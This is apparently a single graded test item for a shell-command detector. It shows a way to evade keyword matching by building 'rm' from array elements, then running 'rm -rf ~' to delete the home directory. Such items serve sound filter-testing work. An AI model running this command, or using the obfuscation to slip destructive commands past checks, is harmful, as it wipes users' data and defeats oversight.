# evasion: command name joined from array elements
# grade: medium; does: rm-rf
a=(r m)
"${a[0]}${a[1]}" -rf ~
